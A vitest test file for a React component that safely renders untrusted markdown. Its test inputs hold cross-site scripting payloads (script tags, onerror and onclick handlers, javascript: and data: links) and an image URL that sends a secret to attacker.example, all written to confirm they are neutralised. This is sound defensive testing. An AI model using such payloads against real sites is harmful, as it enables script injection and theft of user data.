import { describe, expect, it } from "vitest";
import { renderToStaticMarkup } from "react-dom/server";
import { MAX_FORMATTED_CHARS, UntrustedMarkdown } from "./untrusted-markdown";

const render = (text: string) => renderToStaticMarkup(<UntrustedMarkdown text={text} />);

describe("UntrustedMarkdown", () => {
  it("renders markdown: emphasis, lists, code and tables", () => {
    const html = render("**Refund** in *3 days*:\n\n1. open Settings\n2. choose `Billing`\n\n| plan | price |\n| --- | --- |\n| Pro | $12.99 |");
    expect(html).toContain("<strong>Refund</strong>");
    expect(html).toContain("<ol>");
    expect(html).toContain("<code>Billing</code>");
    expect(html).toContain("<td>$12.99</td>");
  });

  it("shows raw HTML as text, so no tag or handler reaches the page", () => {
    const html = render('Hi <script>alert("x")</script> and <img src=x onerror="alert(1)"> and\n\n<div onclick="steal()">block</div>');
    expect(html).not.toMatch(/<script|<img|<div onclick/i);
    expect(html).toContain("&lt;script&gt;");
    expect(html).toContain("&lt;img src=x onerror=");
    expect(html).toContain("&lt;div onclick=");
  });

  it("drops dangerous link schemes and opens safe links without a referrer", () => {
    const html = render("[click](javascript:alert(1)) [data](data:text/html,<b>x</b>) [help](https://help.example.com/a)");
    expect(html).not.toMatch(/href="(javascript|data):/i);
    expect(html).toContain('href="https://help.example.com/a"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });

  it("never loads an image: it becomes its alt text and address", () => {
    const html = render("![chart](https://attacker.example/log?secret=123)");
    expect(html).not.toContain("<img");
    expect(html).toContain("[image: chart — https://attacker.example/log?secret=123 (not loaded)]");
  });

  it("shows a text too long to format as its source text, escaped, with its length", () => {
    const line = '**bold** <img src=x onerror="alert(1)"> ![t](https://attacker.example/x.png)\n';
    const text = line.repeat(Math.ceil((MAX_FORMATTED_CHARS + 1) / line.length));
    const html = render(text);
    expect(html).toContain("<pre");
    expect(html).not.toContain("<strong>");
    expect(html).not.toMatch(/<img|image-placeholder/);
    expect(html).toContain("**bold** &lt;img src=x onerror=");
    expect(html).toContain(`${text.length.toLocaleString("en")} characters: shown as source text`);
    // At the limit it is still formatted.
    expect(render(`**bold** ${"x".repeat(MAX_FORMATTED_CHARS - 9)}`)).toContain("<strong>bold</strong>");
  });
});
